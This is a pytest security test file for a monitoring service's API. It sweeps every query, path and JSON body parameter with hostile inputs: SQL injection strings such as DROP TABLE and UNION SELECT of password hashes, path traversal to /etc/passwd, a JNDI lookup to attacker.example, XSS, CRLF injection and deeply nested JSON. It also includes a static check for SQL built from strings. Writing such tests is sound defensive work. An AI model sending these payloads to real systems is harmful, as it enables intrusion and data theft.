"""Hostile values in every query and path parameter of the API: SQL injection, path tricks,
NUL, very long and non-ASCII text. The answer is a JSON 400 naming the field, a 404, or (for
free-text filters) a 200 that matches nothing; never a 5xx, never every row, and no table
gains, loses or changes a row.

The cases come from the service's own OpenAPI document, so a new operation or parameter is
swept without touching this file: every GET operation x every query parameter x every
hostile value, and every operation x every path parameter x every hostile path segment.
What a parameter must answer follows from its documented type (uuid, date-time, enum,
number, boolean: 400 naming it; free text: nothing matches); the few parameters whose answer
the reference fixes otherwise are listed below with the reason.

A static check completes the picture: SQL text is assembled from strings in a handful of
allow-listed places only, from our own table and column names, with every value bound.
"""
from __future__ import annotations

import ast
import json
import re
import uuid
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path
from urllib.parse import quote, urlencode

import pytest
from sqlalchemy import select, text

from monitoring import create_app
from monitoring.extensions import db
from monitoring.models import (
    AlertSettings,
    ApiToken,
    Check,
    DeviceGroup,
    HeldNotification,
    MaintenanceWindow,
    Metric,
    Notification,
    NotificationWebhook,
    WifiSession,
)
from monitoring.registry import CHARTS
from monitoring.services.charts.builder import chart_series
from monitoring.timeseries.chart_queries import (
    PER_INTERFACE_KINDS,
    RollupState,
    SeriesFilter,
    Window,
    series_shape,
    sql_for,
)
from tests.geo.support import access_point, floorplan, place, wifi_client

ROOT = Path(__file__).resolve().parents[2]

# --- the operations, from the OpenAPI document ------------------------------------------------

# Read once at collection from an app of the test configuration; it needs no database.
DOCUMENT = create_app("config.TestConfig").test_client().get("/api/v1/openapi.json").get_json()
METHODS = ("get", "post", "put", "patch", "delete")


@dataclass(frozen=True)
class Operation:
    method: str
    path: str
    query: tuple[dict, ...]  # documented query parameters
    path_names: tuple[str, ...]
    device_key: bool  # a device may call it with its own ?key=
    user: bool  # a user may call it with a token

    def __str__(self) -> str:
        return f"{self.method} {self.path}"


def _operations() -> list[Operation]:
    operations = []
    for path, item in DOCUMENT["paths"].items():
        for method in METHODS:
            if method not in item:
                continue
            parameters = [*item.get("parameters", []), *item[method].get("parameters", [])]
            security = {name for requirement in item[method].get("security", []) for name in requirement}
            operations.append(Operation(
                method=method.upper(), path=path,
                query=tuple(p for p in parameters if p["in"] == "query"),
                path_names=tuple(p["name"] for p in parameters if p["in"] == "path"),
                device_key="deviceKey" in security,
                user=bool(security & {"bearerAuth", "sessionCookie"}) or not security,
            ))
    return operations


OPERATIONS = _operations()
QUERY_SWEEPS = [
    pytest.param(operation, mode, id=f"{operation} as {mode}")
    for operation in OPERATIONS if operation.method == "GET" and operation.query
    for mode in (("superuser", "device key") if operation.device_key else ("superuser",))
]
WRITES_WITH_QUERY = [operation for operation in OPERATIONS if operation.method != "GET" and operation.query]
PATH_SWEEPS = [pytest.param(operation, id=str(operation)) for operation in OPERATIONS if operation.path_names]

# --- hostile values -----------------------------------------------------------------------------

INJECTIONS = [
    "' OR '1'='1",
    "1; DROP TABLE devices; --",
    "1' UNION SELECT password_hash FROM users--",
    "%' OR 1=1 --",
    "' || (SELECT current_user) || '",
    "'; UPDATE users SET is_superuser = true; --",
    "$$; DROP TABLE devices; $$",
    "\\'; DROP TABLE devices; --",
    "' AND pg_sleep(5) IS NULL --",  # would show as a slow sweep
    "%",
    "_",
    "\\",
]
PATH_TRICKS = [
    "../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "..\\..\\windows\\win.ini",
    "file:///etc/passwd",
]
NUL_VALUES = ["\x00", "abc\x00def"]
ODD_TEXT = [
    "A" * 10_000,  # more than gunicorn lets through in a request line (4 KB)
    "Ωμέγα-😀-設備-\u202e",
    "${jndi:ldap://attacker.example/a}",
    "<script>alert(1)</script>",
    "{{7*7}}",
    "\r\nSet-Cookie: injected=1",
]
# Query values beyond what any column or index entry holds, and deep nesting as text: for a
# server behind something that lets longer request lines through.
LONG_TEXT = ["A" * 200_000, "[" * 2_000 + "]" * 2_000]
HOSTILE = INJECTIONS + PATH_TRICKS + NUL_VALUES + ODD_TEXT + LONG_TEXT
# Values some typed parameters accept (a number, a page size): only "no 5xx, a JSON answer,
# a 400 names its field" holds for all of them.
EDGES = ["99999999999999999999", "-1", "1e309", "NaN", " "]

# --- what each parameter must answer ----------------------------------------------------------

FIELD_ERROR = "400 naming the parameter"
INVALID_PAGE = "404 Invalid page."
DEFAULT_PAGE = "200, the default page"
LENIENT_BOOLEAN = "200 (any other value is true), or 400 naming the parameter"
MATCHES_NOTHING = "200 matching nothing"
CHART_ERROR = "400 with a one-message list"
NOT_FOUND = "404"
KEY_REFUSED = "403 or 404"

# Chart parameters are checked by the chart engine after access, with the reference's
# one-message list bodies (docs/api.md §10). start and end only count together.
CHART_PARAMETERS = {"time", "start", "end", "timezone"}
COMPANIONS = {"start": {"end": "2024-01-02 00:00:00"}, "end": {"start": "2024-01-01 00:00:00"}}
# Parameters whose answer the reference fixes otherwise than their type says.
SPECIAL = {
    # Unknown organization slugs, locations and floorplans of the dashboard are 404 (docs/api.md §11).
    ("/api/v1/monitoring/dashboard/", "organization_slug"): NOT_FOUND,
    ("/api/v1/monitoring/dashboard/", "location_id"): NOT_FOUND,
    ("/api/v1/monitoring/dashboard/", "floorplan_id"): NOT_FOUND,
}


def expectation(operation: Operation, parameter: dict, value: str) -> str:
    name, schema = parameter["name"], parameter.get("schema", {})
    if name == "key":
        return KEY_REFUSED  # the key decides before any other parameter is read
    if "\x00" in value:
        return FIELD_ERROR  # PostgreSQL text cannot hold NUL: refused by every schema
    if (operation.path, name) in SPECIAL:
        return SPECIAL[(operation.path, name)]
    if name == "page":
        return INVALID_PAGE  # the reference answers a page that is no number like one past the end
    if name == "page_size":
        return DEFAULT_PAGE  # ... and ignores a page size that is no number
    if name in CHART_PARAMETERS:
        return CHART_ERROR
    if schema.get("type") == "boolean":
        return LENIENT_BOOLEAN
    if schema.get("format") or schema.get("enum") or schema.get("type") in ("number", "integer", "array"):
        return FIELD_ERROR
    return MATCHES_NOTHING


# --- the world: a few objects in two organizations ----------------------------------------------

@dataclass
class World:
    headers: dict
    device_key: str
    ids: dict[str, str] = field(default_factory=dict)  # what a path parameter names, by kind

    def path_value(self, path: str, name: str) -> str:
        """The id of an existing object for path parameter ``name`` of ``path``."""
        kind = name
        if name == "object_id":  # /api/v1/<app>/<kind>/{object_id}/...
            kind = path.split("/{")[0].rstrip("/").rsplit("/", 1)[-1]
        kind = {"pk": "device", "device_id": "device", "location_id": "location",
                "organization_id": "organization", "metric_id": "metric", "check_id": "check",
                "session_id": "session", "notification_id": "notification", "token_id": "token",
                "window_id": "maintenance"}.get(kind, kind)
        if kind not in self.ids:
            pytest.fail(f"no object of the test world for {{{name}}} of {path}: add one to World.ids")
        return self.ids[kind]

    def foreign_value(self, path: str, name: str) -> str:
        """The id of an existing object of another kind than ``name`` names."""
        own = self.path_value(path, name)
        return self.ids["location"] if own == self.ids["device"] else self.ids["device"]

    def url(self, operation: Operation, **replaced: str) -> str:
        url = operation.path
        for name in operation.path_names:
            url = url.replace("{" + name + "}", replaced.get(name) or self.path_value(operation.path, name))
        return url


def sample(*clients: str) -> dict:
    return {
        "type": "DeviceMonitoring",
        "general": {"local_time": 1714644931, "uptime": 86400},
        "resources": {"load": [0.2, 0.1, 0.05], "cpus": 1,
                      "memory": {"total": 249774080, "free": 224497664, "buffered": 974848, "shared": 102400},
                      "disk": [{"mount_point": "/", "filesystem": "overlay", "used_bytes": 18792,
                                "available_bytes": 11204, "used_percent": 63, "size_bytes": 29996}]},
        "interfaces": [access_point("wlan0", [wifi_client(mac) for mac in clients])],
    }


@pytest.fixture
def world(make, client) -> World:
    org_a, org_b = make.org("A"), make.org("B")
    group_a = DeviceGroup(organization_id=org_a.id, name="g-a")
    db.session.add_all([group_a, DeviceGroup(organization_id=org_b.id, name="g-b")])
    db.session.commit()
    device_a = make.device(org_a, group_id=group_a.id, model="m-a")
    device_a2 = make.device(org_a, model="m-a2")
    device_b = make.device(org_b, model="m-b")  # "a||b" names the empty model too: no device has it
    location_a = make.location(org_a, type="indoor")
    location_b = make.location(org_b, latitude=41.95)
    plan_a = floorplan(location_a, 1)
    place(device_a, location_a, floorplan=plan_a, indoor="10.5,20.5")
    place(device_a2, location_a)
    place(device_b, location_b)
    superuser = make.user(superuser=True)
    manager_a = make.user(manages=[org_a])
    headers = make.headers(superuser)
    response = client.post(f"/api/v1/monitoring/device/{device_a.id}/?key={device_a.key}",
                           data=json.dumps(sample("aa:00:00:00:00:01")), content_type="application/json")
    assert response.status_code == 200, response.get_data(as_text=True)
    metric_id = db.session.scalars(
        select(Metric.id).join(AlertSettings, AlertSettings.metric_id == Metric.id)
        .where(Metric.device_id == device_a.id).order_by(Metric.name)
    ).first()
    check = Check(device_id=device_a.id, name="Ping", check_type="ping", params={})
    notification = Notification(recipient_id=superuser.id, organization_id=org_a.id, device_id=device_a.id,
                                metric_id=metric_id, type="cpu_problem", level="warning", message="CPU high")
    db.session.add_all([check, notification,
                        NotificationWebhook(organization_id=org_a.id, url="https://hooks.example.com/a")])
    db.session.commit()
    # A window that held a notification, not open now: the world's notifications are not held.
    window = MaintenanceWindow(organization_id=org_a.id, name="w-a", starts_at=datetime(2030, 1, 1, tzinfo=UTC),
                               ends_at=datetime(2030, 1, 2, tzinfo=UTC), whole_organization=True)
    db.session.add(window)
    db.session.flush()
    db.session.add(HeldNotification(window_id=window.id, organization_id=org_a.id, device_id=device_a.id,
                                    metric_id=metric_id, type="cpu_problem", level="warning", message="CPU high",
                                    event_time=window.starts_at))
    db.session.commit()
    ids = {
        "organization": org_a.id, "user": manager_a.id, "group": group_a.id, "device": device_a.id,
        "location": location_a.id, "floorplan": plan_a.id, "metric": metric_id, "check": check.id,
        "session": db.session.scalars(select(WifiSession.id)).one(), "notification": notification.id,
        "token": db.session.scalars(select(ApiToken.id).where(ApiToken.user_id == superuser.id)).first(),
        "maintenance": window.id,
    }
    return World(headers=headers, device_key=device_a.key, ids={kind: str(value) for kind, value in ids.items()})


# --- the database before and after ---------------------------------------------------------------

# Contents that a request may legitimately change without writing anything asked for.
VOLATILE_CONTENTS = {
    "api_tokens": "last_used is refreshed when a token authenticates a request",
}


def database_snapshot() -> dict[str, tuple[int, str | None]]:
    """Row count and a digest of the rows of every table of the public schema."""
    db.session.expire_all()
    names = db.session.scalars(text(
        "SELECT table_name FROM information_schema.tables"
        " WHERE table_schema = 'public' AND table_type = 'BASE TABLE' ORDER BY table_name"
    )).all()
    quote_name = db.engine.dialect.identifier_preparer.quote
    parts = [
        f"SELECT CAST(:name_{index} AS text), count(*), md5(string_agg(CAST(t AS text), ',' ORDER BY CAST(t AS text)))"
        f" FROM public.{quote_name(name)} AS t"
        for index, name in enumerate(names)
    ]
    rows = db.session.execute(text(" UNION ALL ".join(parts)),
                              {f"name_{index}": name for index, name in enumerate(names)}).all()
    db.session.commit()
    return {name: (count, None if name in VOLATILE_CONTENTS else digest) for name, count, digest in rows}


def assert_unchanged(before: dict, after: dict) -> None:
    assert set(after) == set(before), f"tables dropped {set(before) - set(after)}, created {set(after) - set(before)}"
    changed = {name: (before[name], after[name]) for name in before if before[name] != after[name]}
    assert not changed, f"rows changed: {changed}"


# --- checking one answer -----------------------------------------------------------------------------

def short(value: str) -> str:
    return repr(value if len(value) <= 40 else value[:37] + "...")


def result_count(body) -> int | None:
    if isinstance(body, list):
        return len(body)
    if isinstance(body, dict):
        if "count" in body:
            return body["count"]
        for key in ("results", "features"):
            if key in body:
                return len(body[key])
    return None


def general_problems(response, *, csv_asked: bool) -> list[str]:
    """What is wrong whatever the value: a server error, a body that is not JSON, a header
    carrying request text."""
    problems = []
    if response.status_code >= 500:
        problems.append("server error")
    if csv_asked and response.status_code == 200 and response.mimetype == "text/csv":
        pass
    elif response.mimetype != "application/json":
        problems.append(f"Content-Type {response.content_type}")
    elif response.get_data() and response.get_json(silent=True) is None:
        problems.append("a body that is no JSON")
    if any("injected" in value for _, value in response.headers):
        problems.append("request text in a response header")
    body = response.get_json(silent=True)
    # (a device sample's schema errors are one message as a bare string, as the reference's)
    if response.status_code == 400 and not (isinstance(body, dict | list | str) and body):
        problems.append("400 without messages")
    if response.status_code in (403, 404) and not (isinstance(body, dict) and isinstance(body.get("detail"), str)):
        problems.append(f"{response.status_code} without a detail")
    return problems


def expectation_problems(response, expected: str, name: str, baseline_count: int | None) -> list[str]:
    status, body = response.status_code, response.get_json(silent=True)
    field_named = status == 400 and isinstance(body, dict) and isinstance(body.get(name), list) and body[name]
    if expected == FIELD_ERROR:
        ok = field_named
    elif expected == INVALID_PAGE:
        ok = status == 404 and body == {"detail": "Invalid page."}
    elif expected == DEFAULT_PAGE:
        ok = status == 200 and result_count(body) == baseline_count
    elif expected == LENIENT_BOOLEAN:
        ok = status == 200 or field_named
    elif expected == MATCHES_NOTHING:
        ok = status == 200 and result_count(body) == 0
    elif expected == CHART_ERROR:
        ok = status == 400 and isinstance(body, list) and len(body) == 1 and isinstance(body[0], str)
    elif expected == NOT_FOUND:
        ok = status == 404
    elif expected == KEY_REFUSED:
        ok = status in (403, 404)
    else:  # pragma: no cover - a new expectation without a check
        raise AssertionError(expected)
    return [] if ok else [f"expected {expected}"]


def send(client, operation: Operation, url: str, *, query: dict, headers: dict):
    body = None if operation.method in ("GET", "DELETE") else {}
    return client.open(url + ("?" + urlencode(query) if query else ""), method=operation.method,
                       headers=headers, json=body)


def report(problems: list[str], limit: int = 40) -> str:
    more = f"\n... and {len(problems) - limit} more" if len(problems) > limit else ""
    return "\n".join(problems[:limit]) + more


# --- the sweeps -----------------------------------------------------------------------------------

def test_the_document_is_swept():
    """A broken document must not pass as "nothing to sweep"."""
    swept_parameters = sum(len(sweep.values[0].query) for sweep in QUERY_SWEEPS)
    path_parameters = sum(len(sweep.values[0].path_names) for sweep in PATH_SWEEPS)
    assert len(QUERY_SWEEPS) >= 18 and swept_parameters >= 90
    assert len(PATH_SWEEPS) >= 45 and path_parameters >= 50
    assert WRITES_WITH_QUERY, "the device sample POST takes key, time and current"


@pytest.mark.parametrize(("operation", "mode"), QUERY_SWEEPS)
def test_hostile_query_parameters(client, world, operation, mode):
    url = world.url(operation)
    headers = world.headers if mode == "superuser" else {}
    base = {} if mode == "superuser" else {"key": world.device_key}
    baseline = send(client, operation, url, query=base, headers=headers)
    assert baseline.status_code == 200, baseline.get_data(as_text=True)
    baseline_count = result_count(baseline.get_json(silent=True))
    before = database_snapshot()
    problems = []
    for parameter in operation.query:
        name = parameter["name"]
        for value in HOSTILE + EDGES:
            query = {**base, **COMPANIONS.get(name, {}), name: value}
            response = send(client, operation, url, query=query, headers=headers)
            found = general_problems(response, csv_asked="csv" in query)
            if value in HOSTILE:
                expected = expectation(operation, parameter, value)
                if expected == MATCHES_NOTHING:
                    assert baseline_count, f"{operation}: the world must have rows for {name} to filter"
                found += expectation_problems(response, expected, name, baseline_count)
            if found:
                problems.append(f"{name}={short(value)}: {response.status_code} "
                                f"{response.get_data(as_text=True)[:200]!r}: {', '.join(found)}")
    assert not problems, f"{operation} as {mode}:\n{report(problems)}"
    assert_unchanged(before, database_snapshot())


def hostile_path_values(valid: str, foreign: str) -> list[tuple[str, bool]]:
    """(segment, whether it has the shape of an id): the segment goes into the URL encoded,
    so "/" and "%" are part of the id, not of the path."""
    unknown = str(uuid.uuid4())
    non_ids = [
        *INJECTIONS, *PATH_TRICKS, *NUL_VALUES, *ODD_TEXT,
        f"{valid}' OR '1'='1", f"{valid} OR 1=1", f"{valid};DROP TABLE devices",
        f"{valid}/..", f"../{valid}", f"{valid}/../{valid}", f"{valid}%2f..%2f{valid}", f"{valid}\x00",
        "..", "../..", ".", "%2e%2e", ".%00.",
        valid.upper(), "{" + valid + "}", f"urn:uuid:{valid}", f"{valid}0", valid[:-1],
        "-1", "0", "99999999999999999999", " ",
    ]
    ids = [unknown, unknown.replace("-", ""), str(uuid.UUID(int=0)), foreign]
    return [(value, False) for value in non_ids] + [(value, True) for value in ids]


@pytest.mark.parametrize("operation", PATH_SWEEPS)
def test_hostile_path_parameters(client, world, operation):
    modes = []
    if operation.user:
        modes.append(("superuser", world.headers, {}))
    if operation.device_key:
        modes.append(("device key", {}, {"key": world.device_key}))
    body = None
    if operation.method in ("POST", "PUT", "PATCH"):
        body = json.dumps(sample("aa:00:00:00:00:02")) if operation.device_key else "{}"
    before = database_snapshot()
    problems = []
    for name in operation.path_names:
        valid = world.path_value(operation.path, name)
        for value, id_shaped in hostile_path_values(valid, world.foreign_value(operation.path, name)):
            url = world.url(operation, **{name: quote(value, safe="")})
            for mode, headers, query in modes:
                response = client.open(url + ("?" + urlencode(query) if query else ""), method=operation.method,
                                       headers=headers, data=body, content_type="application/json")
                found = general_problems(response, csv_asked=False)
                # An id of nothing is 404; a write may refuse its body first (400).
                allowed = (404, 400) if id_shaped and operation.method in ("POST", "PUT", "PATCH") else (404,)
                if response.status_code not in allowed:
                    found.append(f"expected {' or '.join(map(str, allowed))}")
                if found:
                    problems.append(f"{name}={short(value)} as {mode}: {response.status_code} "
                                    f"{response.get_data(as_text=True)[:200]!r}: {', '.join(found)}")
    assert not problems, f"{operation}:\n{report(problems)}"
    assert_unchanged(before, database_snapshot())


# What each query parameter of a write answers to a hostile value, the others being valid.
WRITE_QUERY_EXPECTATIONS = {
    ("POST", "/api/v1/monitoring/device/{pk}/"): {
        "key": 403,  # a wrong key
        "time": 400,  # {"detail": "Incorrect time format"}, or the NUL message keyed by time
        "current": 200,  # a flag: any value is "true" (docs/api.md §15.2), so the sample is stored
    },
}


@pytest.mark.parametrize("operation", [pytest.param(o, id=str(o)) for o in WRITES_WITH_QUERY])
def test_hostile_query_parameters_of_writes(client, world, operation):
    expectations = WRITE_QUERY_EXPECTATIONS.get((operation.method, operation.path))
    assert expectations is not None, f"{operation}: say what its query parameters answer"
    assert set(expectations) == {p["name"] for p in operation.query}, "a query parameter without an expectation"
    url = world.url(operation)
    problems = []

    def sweep(name: str) -> None:
        for value in HOSTILE:
            response = client.post(url + "?" + urlencode({"key": world.device_key, name: value}),
                                   data=json.dumps(sample("aa:00:00:00:00:03")), content_type="application/json")
            found = general_problems(response, csv_asked=False)
            if response.status_code != expectations[name]:
                found.append(f"expected {expectations[name]}")
            if found:
                problems.append(f"{name}={short(value)}: {response.status_code} "
                                f"{response.get_data(as_text=True)[:200]!r}: {', '.join(found)}")

    before = database_snapshot()
    for name in [name for name, status in expectations.items() if status != 200]:
        sweep(name)
    assert_unchanged(before, database_snapshot())  # refused samples write nothing
    for name in [name for name, status in expectations.items() if status == 200]:
        sweep(name)
    assert not problems, f"{operation}:\n{report(problems)}"


# --- hostile request bodies ----------------------------------------------------------------------

def _resolve(schema: dict) -> dict:
    while "$ref" in schema:
        schema = DOCUMENT["components"]["schemas"][schema["$ref"].rsplit("/", 1)[-1]]
    return schema


def _json_body_properties(operation: Operation) -> dict[str, dict] | None:
    body = DOCUMENT["paths"][operation.path][operation.method.lower()].get("requestBody", {})
    schema = body.get("content", {}).get("application/json", {}).get("schema")
    return None if schema is None else _resolve(schema).get("properties", {})


BODY_SWEEPS = [pytest.param(operation, id=str(operation)) for operation in OPERATIONS
               if operation.method in ("POST", "PUT", "PATCH") and _json_body_properties(operation) is not None]
# Raw JSON text: what a JSON encoder sends for odd bytes, and numbers no double can hold.
HOSTILE_JSON_STRINGS = ['"\\u0000"', '"a\\u0000b"', '"\\ud800"', '"x\\udfffy"', '"\\ud83d"']
HOSTILE_JSON_NUMBERS = ["1e309", "-1e400", "1" + "0" * 400, str(2**64), "-" + str(2**63 + 1)]
# Far longer than any column holds or an index entry can (about 2,700 bytes).
LONG_JSON_STRINGS = [json.dumps("Aé" * 100_000, ensure_ascii=False)]


def deep_array(depth: int) -> str:
    return "[" * depth + "]" * depth


def deep_object(depth: int) -> str:
    return '{"a": ' * depth + "1" + "}" * depth


# Nested past what Python's JSON parser recurses through (100,000 levels: the parser fails
# wherever it is), and within it (500 levels: parsed, then too deep for any code walking it
# recursively, which may depend on where it is).
UNPARSABLY_DEEP = {"an array nested 100,000 deep": deep_array(100_000),
                   "an object nested 100,000 deep": deep_object(100_000)}
PARSABLY_DEEP = {"an array nested 500 deep": deep_array(500), "an object nested 500 deep": deep_object(500)}


def hostile_bodies(properties: dict[str, dict], *, base: str = "") -> list[tuple[str, str]]:
    """(what, JSON text): every documented property, and an unknown one, with each hostile
    value of any type (a typed schema must refuse the wrong type too), after ``base`` (valid
    members, so that the value is not refused for something else first)."""
    bodies = []
    nested = '{"a": [' + ", ".join(HOSTILE_JSON_NUMBERS + HOSTILE_JSON_STRINGS) + "]}"
    for name in [*properties, "unknown_property"]:
        for value in [*HOSTILE_JSON_STRINGS, *HOSTILE_JSON_NUMBERS, *LONG_JSON_STRINGS, nested]:
            bodies.append((f"{name}={value[:12]}", "{" + base + json.dumps(name) + ": " + value + "}"))
    return bodies


def deep_bodies(properties: dict[str, dict], *, base: str = "") -> list[tuple[str, str]]:
    """(what, JSON text): deeply nested arrays and objects as the whole body and as the value
    of every documented property."""
    bodies = [(f"body: {what}", value) for what, value in {**UNPARSABLY_DEEP, **PARSABLY_DEEP}.items()]
    for name in properties:
        for what, value in PARSABLY_DEEP.items():
            bodies.append((f"{name}: {what}", "{" + base + json.dumps(name) + ": " + value + "}"))
    return bodies


@pytest.mark.parametrize("operation", BODY_SWEEPS)
def test_hostile_json_bodies(client, world, operation):
    """NUL and lone surrogates (which PostgreSQL cannot hold), numbers beyond any double or
    64-bit integer and strings longer than any column in every property of every JSON body:
    a 4xx or a 2xx, never a 5xx. Arrays and objects nested 100,000 deep as the body, and 500
    deep (which the parser reads) as the body or in any property: a 400, whatever the
    endpoint, and nothing written."""
    query = {"key": world.device_key} if operation.device_key and not operation.user else {}
    url = world.url(operation) + ("?" + urlencode(query) if query else "")
    headers = {} if query else world.headers
    # A device sample's errors are a bare JSON string (the reference's format); give it its
    # type so that each value is judged, not the missing type.
    base = '"type": "DeviceMonitoring", ' if query else ""
    properties = _json_body_properties(operation)
    problems = []

    def sweep(bodies: list[tuple[str, str]], *, expected_status: int | None = None) -> None:
        for what, body in bodies:
            response = client.open(url, method=operation.method, headers=headers, data=body.encode(),
                                   content_type="application/json")
            found = general_problems(response, csv_asked=False)
            if expected_status is not None and response.status_code != expected_status:
                found.append(f"expected {expected_status}")
            if found:
                problems.append(f"{what}: {response.status_code} {response.get_data(as_text=True)[:200]!r}: "
                                f"{', '.join(found)}")

    before = database_snapshot()
    sweep(deep_bodies(properties, base=base), expected_status=400)
    assert_unchanged(before, database_snapshot())  # refused before anything is written
    sweep(hostile_bodies(properties, base=base))
    assert not problems, f"{operation}:\n{report(problems)}"


def test_a_deep_body_is_a_400_on_the_token_and_group_endpoints(client, world):
    """A 100,000-deep array made any endpoint reading a JSON body raise RecursionError (a 500
    with a traceback in the log), the anonymous token endpoint included."""
    for url, headers in (("/api/v1/users/token/", {}), ("/api/v1/controller/group/", world.headers)):
        for body in [*UNPARSABLY_DEEP.values(), *PARSABLY_DEEP.values()]:
            response = client.post(url, headers=headers, data=body, content_type="application/json")
            assert response.status_code == 400, (url, response.get_data(as_text=True)[:200])
            assert response.get_json() == {"non_field_errors": ["Invalid JSON body: nested more than 64 levels deep."]}


def test_unstorable_characters_in_token_requests_are_a_400(client):
    for body in ('{"username": "\\ud800", "password": "secret-pass"}', '{"username": "a", "password": "\\u0000"}'):
        response = client.post("/api/v1/users/token/", data=body, content_type="application/json")
        assert response.status_code == 400, body
        assert set(response.get_json()) <= {"username", "password"}, response.get_json()


# --- what the sweep found ----------------------------------------------------------------------------

def test_a_custom_range_before_year_one_in_utc_is_a_date_error(client, world):
    """0001-01-01 00:00 in Tokyo is 0000-12-31 15:00 UTC, which no datetime can hold: it was a 500."""
    bad = {"start": "0001-01-01 00:00:00", "end": "0001-01-02 00:00:00", "timezone": "Asia/Tokyo"}
    for url in (f"/api/v1/monitoring/device/{world.ids['device']}/", "/api/v1/monitoring/dashboard/"):
        response = client.get(f"{url}?{urlencode(bad)}", headers=world.headers)
        assert response.status_code == 400, url
        assert response.get_json() == ["Incorrect custom date format, should be YYYY-MM-DD H:M:S "
                                       "(e.g. 2024-05-02 10:15:00 in the requested timezone; not ISO 8601)"]
        response = client.get(f"{url}?{urlencode({**bad, 'timezone': 'America/New_York'})}", headers=world.headers)
        assert response.status_code == 200, url  # the same wall times exist there


def test_a_device_key_with_a_nul_is_a_wrong_key(client, world):
    """The sample POST refused NUL in its query strings before looking at the key: a caller
    without access got a 400 about its input. The key decides first (docs/api.md §4.2)."""
    url = f"/api/v1/monitoring/device/{world.ids['device']}/"

    def post(**query: str):
        return client.post(f"{url}?{urlencode(query)}", data=json.dumps(sample("aa:00:00:00:00:04")),
                           content_type="application/json")

    before = database_snapshot()
    for key in ("\x00", world.device_key + "\x00", world.device_key[:-1] + "\x00"):
        response = post(key=key)
        assert response.status_code == 403 and "detail" in response.get_json(), repr(key)
    response = post(key=world.device_key, time="02-05-2024_10:15:31.0\x00")
    assert response.status_code == 400 and response.get_json() == {"detail": "Incorrect time format"}
    assert_unchanged(before, database_snapshot())
    response = post(key=world.device_key, current="true\x00")
    assert response.status_code == 200  # a flag, never stored: any value but false/0/no/off is true


def test_page_sizes_and_pages_beyond_what_postgresql_counts(client, world):
    """LIMIT and OFFSET are bigint: the unlimited GeoJSON page size and the page of a radius
    query used to reach PostgreSQL beyond it (a 500)."""
    geojson = "/api/v1/monitoring/geojson/"
    everything = client.get(geojson, headers=world.headers).get_json()
    response = client.get(f"{geojson}?page_size={2**64}", headers=world.headers)
    assert response.status_code == 200 and response.get_json() == everything
    response = client.get(f"{geojson}?page=2&page_size={2**64}", headers=world.headers)
    assert response.status_code == 404 and response.get_json() == {"detail": "Invalid page."}
    nearby = f"/api/v1/monitoring/device/{world.ids['device']}/nearby-devices/?distance__lte=100000"
    assert client.get(nearby, headers=world.headers).get_json()["count"] == 2
    for page in (2**63, 2**64, 10**30):
        response = client.get(f"{nearby}&page={page}", headers=world.headers)
        assert response.status_code == 404 and response.get_json() == {"detail": "Invalid page."}, page


# --- no SQL built from request text -------------------------------------------------------------------

SCANNED = ("monitoring", "blueprints", "schemas")
SQL_WORDS = re.compile(r"\b(SELECT|INSERT|UPDATE|DELETE|FROM|WHERE|JOIN|UNION|VALUES|ORDER BY|GROUP BY|LIMIT|"
                       r"OFFSET|TRUNCATE|DROP|ALTER|CREATE|EXPLAIN|WITH)\b")
SQL_CALLS = {"text", "literal_column", "exec_driver_sql"}

# Where SQL text is assembled from strings, and why no request text can be part of it.
ASSEMBLED_SQL = {
    "monitoring/timeseries/chart_queries.py": (
        {"read_many", "explain"},
        "runs the chart statements rendered from the templates of monitoring/timeseries/sql/: "
        "sql_templates.render takes only names, numbers, flags and rendered SQL (anything else is a "
        "ValueError), the shape of a query gives them (measurement, fields and filter names from the chart "
        "registry, table and column names from our table definitions), and every value is a bind parameter; "
        "explain prefixes EXPLAIN for benchmarks",
    ),
    "monitoring/timeseries/sample_store.py": (
        {"alert_points", "<module>", "WriteBatch._values"},
        "table and column names from our table definitions and the alert registry, values as %s "
        "placeholders that psycopg2 fills in (a multi-row INSERT, or the call of store_sample_writes whose "
        "placeholders carry the column types of our table definitions, at import)",
    ),
    "monitoring/timeseries/check_store.py": (
        {"insert_points"},
        "table and column names of our check tables (anything else is a KeyError), values as %s placeholders",
    ),
    "monitoring/timeseries/counts.py": (
        {"count_points"},
        "hypertable names from our table definitions; the device id is bound",
    ),
    "monitoring/services/accounts/login_throttle.py": (
        {"<module>"},
        "constant CASE expressions spliced into constant statements at import",
    ),
    "monitoring/timeseries/availability.py": (
        {"<module>"},
        "the constant SELECT of an hour's slots from the points, inside the constant INSERT of the refresh, "
        "at import",
    ),
}


class SqlAssembly(ast.NodeVisitor):
    """Strings with SQL words that are formatted, joined or concatenated, and SQL calls
    (``text()``, …) on anything but a literal or a module constant."""

    def __init__(self) -> None:
        self.scope: list[str] = []
        self.found: list[tuple[str, int, str]] = []

    def _scoped(self, node) -> None:
        self.scope.append(node.name)
        self.generic_visit(node)
        self.scope.pop()

    visit_FunctionDef = visit_AsyncFunctionDef = visit_ClassDef = _scoped

    def _add(self, node, how: str) -> None:
        self.found.append((".".join(self.scope) or "<module>", node.lineno, how))

    @staticmethod
    def _sql(node) -> bool:
        return isinstance(node, ast.Constant) and isinstance(node.value, str) and bool(SQL_WORDS.search(node.value))

    def visit_JoinedStr(self, node) -> None:
        if any(self._sql(part) for part in node.values):
            self._add(node, "f-string")
        self.generic_visit(node)

    def visit_BinOp(self, node) -> None:
        if isinstance(node.op, ast.Mod) and self._sql(node.left):
            self._add(node, "% formatting")
        if isinstance(node.op, ast.Add) and (self._sql(node.left) or self._sql(node.right)):
            self._add(node, "concatenation")
        self.generic_visit(node)

    def visit_Call(self, node) -> None:
        function = node.func
        if isinstance(function, ast.Attribute) and function.attr in ("format", "join") and self._sql(function.value):
            self._add(node, f".{function.attr}()")
        name = function.attr if isinstance(function, ast.Attribute) else getattr(function, "id", None)
        if name in SQL_CALLS and node.args:
            argument = node.args[0]
            constant = isinstance(argument, ast.Constant) or (isinstance(argument, ast.Name) and argument.id.isupper())
            if not constant:
                self._add(node, f"{name}() of a computed string")
        self.generic_visit(node)


def sql_assembly() -> dict[tuple[str, str], list[str]]:
    found: dict[tuple[str, str], list[str]] = {}
    for directory in SCANNED:
        for path in sorted((ROOT / directory).rglob("*.py")):
            visitor = SqlAssembly()
            visitor.visit(ast.parse(path.read_text(), filename=str(path)))
            module = path.relative_to(ROOT).as_posix()
            for scope, line, how in visitor.found:
                found.setdefault((module, scope), []).append(f"line {line}: {how}")
    return found


def test_sql_is_assembled_only_in_the_allowed_places():
    found = sql_assembly()
